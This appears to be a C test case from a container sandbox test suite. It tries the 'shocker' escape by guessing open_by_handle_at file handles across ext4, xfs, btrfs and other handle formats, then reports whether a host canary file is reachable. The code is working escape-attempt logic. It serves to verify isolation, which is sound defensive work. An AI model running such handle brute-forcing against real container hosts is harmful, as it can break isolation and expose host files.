/* tries: open_by_handle_at with guessed handles (inode numbers 1..4096 in the formats of ext4, xfs,
   btrfs, tmpfs, overlayfs), and name_to_handle_at on every directory of the box */
/* must fail because: neither call reaches the host; handles name inodes of a host file system and
   pass by every path check */
/* an escape would: open a host directory by its inode number and read the canary below it (the
   shocker attack on containers) */
/* source: ATTACKS.md F6 */
#include "tricks.h"

struct handle {
    unsigned bytes;
    int type;
    union {
        unsigned char b[128];
        unsigned u[32];
        unsigned long long q[16];
    };
};

static int guess(int mount_fd, const char *file, int *opened)
{
    static const int types[] = {0, 1, 2, 0x81, 0x82, 0x4d, 0x4e, 0xf1, 0xf8, 0xfb, 0xfe, 0xff};
    for (unsigned ino = 1; ino < 4096; ino = ino < 300 ? ino + 1 : ino + 97) {
        for (int t = 0; t < COUNT(types); t++) {
            struct handle h = {.bytes = 8, .type = types[t]};
            h.u[0] = ino;
            if (types[t] >= 0x4d && types[t] < 0x80) {
                h.bytes = 20;
                h.q[0] = ino;
                h.q[1] = 5;
            } else if (types[t] == 0x81 || types[t] == 0x82) {
                h.bytes = 12;
                h.q[0] = ino;
            }
            int fd = syscall(SYS_open_by_handle_at, mount_fd, &h, O_RDONLY | O_NONBLOCK);
            if (fd < 0)
                continue;
            ++*opened;
            if (reach_by(fd, ".", file) == 1)
                return 1;
            close(fd);
        }
    }
    return 0;
}

static int attack(void)
{
    static const char *const dirs[] = {"/",    "/etc",     "/tmp", "/proc",
                                       "/dev", "/dev/shm", "/sys", "."};
    const char *file = fact("host_file");
    int opened = 0;
    if (!file)
        return cannot("no host_file was given");
    for (int i = 0; i < COUNT(dirs); i++) {
        struct handle h = {.bytes = 128};
        int mount_id = -1;
        long r = sys(SYS_name_to_handle_at, AT_FDCWD, dirs[i], &h, &mount_id, 0);
        int dir = open(dirs[i], O_RDONLY | O_DIRECTORY);
        long o = sys(SYS_open_by_handle_at, dir, &h, O_RDONLY);
        step("%s: name_to_handle_at %s, open_by_handle_at %s", dirs[i], err_name(r < 0 ? r : 0),
             err_name(o < 0 ? o : 0));
        if (o >= 0 && reach_by((int)o, "..", file) == 1)
            return escaped("a handle of %s leads to the canary", dirs[i]);
        if (i < 3 && guess(dir, file, &opened))
            return escaped("a guessed handle leads to the canary");
    }
    for (int mount_id = 0; mount_id < 3; mount_id++)
        if (guess(mount_id == 2 ? AT_FDCWD : mount_id, file, &opened))
            return escaped("a guessed handle leads to the canary");
    if (opened)
        return escaped("%d guessed handles could be opened", opened);
    return contained("no handle opens anything");
}

static int twin(void)
{
    int dir = open("/etc", O_RDONLY | O_DIRECTORY);
    int fd = openat(dir, "passwd", O_RDONLY);
    char c;
    if (dir < 0 || fd < 0 || read(fd, &c, 1) != 1)
        return broken("openat: %s", err_name(errno));
    return works("the same files open by name");
}

int main(int argc, char **argv)
{
    return attack_main(argc, argv, attack, twin);
}
